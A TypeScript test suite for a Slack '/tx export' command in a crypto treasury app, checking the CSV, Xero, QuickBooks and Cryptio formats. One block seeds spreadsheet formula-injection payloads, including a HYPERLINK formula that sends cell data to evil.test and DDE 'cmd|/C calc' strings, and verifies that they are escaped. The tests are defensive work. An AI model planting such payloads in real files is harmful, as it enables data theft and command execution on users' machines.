/**
 * `/tx export format=…` end to end: signed requests, the sandbox's transactions, the file the
 * fake Slack received in the person's DM. Each accounting format: its documented header row,
 * exact decimal amounts (signed where the tool expects), dates as the tool reads them.
 */
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, USERS, type TestApp } from '../helpers/treasury-app.js';

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp();
});
afterAll(async () => {
  await t?.stop();
});

const AT = Date.UTC(2026, 10, 3, 7, 5, 9); // 2026-11-03 07:05:09 UTC

function seed(): void {
  t.app.sandbox!.resetTransactions([
    {
      transactionType: 'Deposit',
      currency: 'USDT',
      network: 'BSC',
      amount: '1250.123456789012345678',
      transactionTimeStamp: AT,
      transactionHash: '0xdep1',
      fromAddress: '0x2222222222222222222222222222222222222222',
      reference: 'dep-ref-1',
    },
    {
      transactionType: 'Withdrawal',
      currency: 'USDT',
      network: 'BSC',
      amount: '0.1',
      transactionTimeStamp: AT - 86_400_000 * 2,
      transactionHash: '0xwd1',
      toAddress: '0x3333333333333333333333333333333333333333',
      reference: 'wd-ref-1',
    },
    {
      transactionType: 'Deposit',
      transactionStatus: 'FAILED',
      currency: 'USDT',
      network: 'BSC',
      amount: '77',
      transactionTimeStamp: AT - 1000,
    },
  ]);
}

async function exportFile(args: string) {
  const before = new Set(t.fake.files().map((f) => f.id));
  const { res, responseUrl } = await t.command('/tx', `export ${args}`, USERS.viewer);
  expect(res.status).toBe(200);
  const replies = await t.repliesUntil(responseUrl, (r) => /Export finished|:warning:/.test(String(r.text)), 15_000);
  const last = String(replies.at(-1)!.text);
  const file = t.fake.files().find((f) => !before.has(f.id));
  return { last, file, rows: file ? (parseCsv(file.content.toString('utf8')) as string[][]) : [] };
}

describe('/tx export format=…', () => {
  it('xero: Date, Amount, Payee, Description, Reference; DD/MM/YYYY; money out negative', async () => {
    seed();
    const { rows, file, last } = await exportFile('format=xero currency=USDT');
    expect(file!.channel).toBe(t.fake.dmChannel(USERS.viewer));
    expect(file!.name).toMatch(/^transactions-xero-currency-USDT-\d{8}-\d{6}Z(-\d+)?\.csv$/);
    expect(rows[0]).toEqual(['Date', 'Amount', 'Payee', 'Description', 'Reference']);
    // Oldest first, as a statement reads.
    expect(rows.slice(1)).toEqual([
      [
        '01/11/2026',
        '-0.1',
        '0x3333333333333333333333333333333333333333',
        'USDT withdrawal on BSC (tx 0xwd1)',
        'wd-ref-1',
      ],
      [
        '03/11/2026',
        '1250.123456789012345678',
        '0x2222222222222222222222222222222222222222',
        'USDT deposit on BSC (tx 0xdep1)',
        'dep-ref-1',
      ],
    ]);
    expect(last).toContain('Export finished: 2 records for Xero');
    expect(last).toContain('1 record was left out: failed');
    expect(file!.content.toString('utf8')).toContain('\r\n');
  });

  it('quickbooks: Date, Description, Amount (the 3-column upload); MM/DD/YYYY; money out negative', async () => {
    seed();
    const { rows } = await exportFile('format=QuickBooks');
    expect(rows[0]).toEqual(['Date', 'Description', 'Amount']);
    expect(rows.slice(1)).toEqual([
      // QuickBooks has no Reference column: the references ride in the description.
      ['11/01/2026', 'USDT withdrawal on BSC (tx 0xwd1) · merchant reference wd-ref-1', '-0.1'],
      ['11/03/2026', 'USDT deposit on BSC (tx 0xdep1) · service reference dep-ref-1', '1250.123456789012345678'],
    ]);
  });

  it('cryptio: the custom import template; UTC YYYY-MM-DD HH:MM:SS; deposit/withdraw in their own columns, volumes positive', async () => {
    seed();
    const { rows } = await exportFile('format=cryptio');
    expect(rows[0]).toEqual([
      'transactionDate',
      'orderType',
      'txhash',
      'incomingAsset',
      'incomingVolume',
      'incomingUnitRate',
      'incomingTransactionValue',
      'outgoingAsset',
      'outgoingVolume',
      'outgoingUnitRate',
      'outgoingTransactionValue',
      'feeAsset',
      'feeVolume',
      'feeUnitRate',
      'feeTransactionValue',
      'otherParties',
      'note',
    ]);
    expect(rows[2]).toEqual([
      '2026-11-03 07:05:09',
      'deposit',
      '0xdep1',
      'USDT',
      '1250.123456789012345678',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
      '0x2222222222222222222222222222222222222222',
      'BSC, service reference dep-ref-1',
    ]);
    expect(rows[1]).toEqual([
      '2026-11-01 07:05:09',
      'withdraw',
      '0xwd1',
      '',
      '',
      '',
      '',
      'USDT',
      '0.1',
      '',
      '',
      '',
      '',
      '',
      '',
      '0x3333333333333333333333333333333333333333',
      'BSC, merchant reference wd-ref-1',
    ]);
    expect(rows).toHaveLength(3);
  });

  it('csv, said or not, is the export as it always was', async () => {
    seed();
    const plain = await exportFile('currency=USDT');
    const said = await exportFile('format=csv currency=USDT');
    expect(said.rows).toEqual(plain.rows);
    // Same filters, made one after the other: never the same file name.
    expect(said.file!.name).not.toBe(plain.file!.name);
    expect(said.file!.name).toMatch(/^transactions-currency-USDT-\d{8}-\d{6}Z(-\d+)?\.csv$/);
    expect(said.rows[0]![0]).toBe('createdAt');
    expect(said.rows).toHaveLength(4); // every record, failed included
    expect(said.last).toMatch(
      /^:white_check_mark: Export finished: 3 records in `transactions-currency-USDT-\d{8}-\d{6}Z(-\d+)?\.csv`, sent to you in a direct message\.$/,
    );
  });

  it('an unknown format is refused with the four listed, and nothing is uploaded', async () => {
    const before = t.fake.files().length;
    const { responseUrl } = await t.command('/tx', 'export format=excel currency=USDT', USERS.viewer);
    const [reply] = await t.replies(responseUrl);
    expect(reply!.text).toContain('unknown format “excel”; accepted: csv, xero, quickbooks, cryptio');
    expect(reply!.text).toContain('/tx export [format=csv|xero|quickbooks|cryptio] [filters]');
    const twice = await t.command('/tx', 'export format=xero format=cryptio', USERS.viewer);
    expect((await t.replies(twice.responseUrl))[0]!.text).toContain('format= is given more than once');
    expect(t.fake.files()).toHaveLength(before);
  });

  it('says when a Xero or QuickBooks file mixes currencies', async () => {
    t.app.sandbox!.resetTransactions([
      { transactionType: 'Deposit', currency: 'USDT', network: 'BSC', amount: '1', transactionTimeStamp: AT },
      { transactionType: 'Deposit', currency: 'BTC', network: 'BTC', amount: '0.5', transactionTimeStamp: AT },
    ]);
    const { last, rows } = await exportFile('format=xero');
    expect(rows).toHaveLength(3);
    expect(last).toContain('The file holds BTC, USDT: Xero imports one bank account (one currency) per file');
  });
});

describe('/tx export: text from the service cannot run as a spreadsheet formula', () => {
  const HOSTILE = {
    from: '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    to: '@SUM(1+1)*cmd|/C calc!A0',
    hash: '-2+3+cmd|/C calc!A0',
    reference: '+1+1',
    tabbed: '\t=1+1',
  };

  function seedHostile(): void {
    t.app.sandbox!.resetTransactions([
      {
        transactionType: 'Deposit',
        currency: 'USDT',
        network: 'BSC',
        amount: '5',
        transactionTimeStamp: AT,
        transactionHash: HOSTILE.hash,
        fromAddress: HOSTILE.from,
        reference: HOSTILE.reference,
      },
      {
        transactionType: 'Withdrawal',
        currency: 'USDT',
        network: 'BSC',
        amount: '0.1',
        transactionTimeStamp: AT - 86_400_000,
        transactionHash: '0xwd2',
        toAddress: HOSTILE.to,
        reference: HOSTILE.tabbed,
      },
    ]);
  }

  it('csv: addresses, hash and reference get a leading quote; the amount stays a number', async () => {
    seedHostile();
    const { rows } = await exportFile('currency=USDT');
    const c = (name: string) => rows[0]!.indexOf(name);
    const dep = rows.find((r) => r[c('type')] === 'deposit')!;
    const wd = rows.find((r) => r[c('type')] === 'withdrawal')!;
    expect(dep[c('amount')]).toBe('5');
    expect(dep[c('fromAddress')]).toBe(`'${HOSTILE.from}`);
    expect(dep[c('transactionHash')]).toBe(`'${HOSTILE.hash}`);
    expect(dep[c('serviceReference')]).toBe(`'${HOSTILE.reference}`);
    expect(wd[c('toAddress')]).toBe(`'${HOSTILE.to}`);
    // Guarded, and the tab (a control character) is a space: a cell is one line of text.
    expect(wd[c('merchantReference')]).toBe(`' ${HOSTILE.tabbed.slice(1)}`);
  });

  it('xero: payee and reference are escaped; the negative amount is not', async () => {
    seedHostile();
    const { rows } = await exportFile('format=xero');
    expect(rows.slice(1)).toEqual([
      ['02/11/2026', '-0.1', `'${HOSTILE.to}`, 'USDT withdrawal on BSC (tx 0xwd2)', `' ${HOSTILE.tabbed.slice(1)}`],
      ['03/11/2026', '5', `'${HOSTILE.from}`, `USDT deposit on BSC (tx ${HOSTILE.hash})`, `'${HOSTILE.reference}`],
    ]);
  });

  it('quickbooks: the negative amount stays a number', async () => {
    seedHostile();
    const { rows } = await exportFile('format=quickbooks');
    expect(rows.slice(1).map((r) => r[2])).toEqual(['-0.1', '5']);
  });

  it('cryptio: txhash and otherParties are escaped; volumes are not', async () => {
    seedHostile();
    const { rows } = await exportFile('format=cryptio');
    const dep = rows.find((r) => r[1] === 'deposit')!;
    const wd = rows.find((r) => r[1] === 'withdraw')!;
    expect(dep[2]).toBe(`'${HOSTILE.hash}`);
    expect(dep[4]).toBe('5');
    expect(dep[15]).toBe(`'${HOSTILE.from}`);
    expect(dep[16]).toBe(`BSC, service reference ${HOSTILE.reference}`);
    expect(wd[8]).toBe('0.1');
    expect(wd[15]).toBe(`'${HOSTILE.to}`);
  });
});

describe('/tx export: what each tool cannot import is said in the message', () => {
  it('cryptio: a record without a transaction hash is left out, and the message counts it', async () => {
    t.app.sandbox!.resetTransactions([
      { transactionType: 'Deposit', currency: 'USDT', network: 'BSC', amount: '1', transactionTimeStamp: AT },
      {
        transactionType: 'Deposit',
        currency: 'USDT',
        network: 'BSC',
        amount: '2',
        transactionTimeStamp: AT - 1000,
        transactionHash: '',
      },
    ]);
    const { rows, last, file } = await exportFile('format=cryptio');
    expect(rows).toHaveLength(2);
    expect(rows[1]![4]).toBe('1');
    expect(rows[1]![2]).not.toBe('');
    expect(last).toContain('Export finished: 1 records for Cryptio');
    expect(last).toContain('1 record was left out: without a transaction hash, which Cryptio needs on every line.');
    expect(file!.initial_comment).toContain('1 record was left out: without a transaction hash');
  });

  it('xero: more than 1,000 lines is written whole, and the message says to split it', async () => {
    t.app.sandbox!.resetTransactions(
      Array.from({ length: 1001 }, (_, i) => ({
        transactionType: 'Deposit' as const,
        currency: 'USDT',
        network: 'BSC',
        amount: String(i + 1),
        transactionTimeStamp: AT - i * 1000,
      })),
    );
    const { rows, last, file } = await exportFile('format=xero');
    expect(rows).toHaveLength(1002);
    expect(file!.initial_comment).toContain('Xero imports at most 1,000 lines at a time: split this file');
    expect(last).toContain('Export finished: 1001 records for Xero');
    expect(last).toContain('Xero imports at most 1,000 lines at a time: split this file');
  });
});
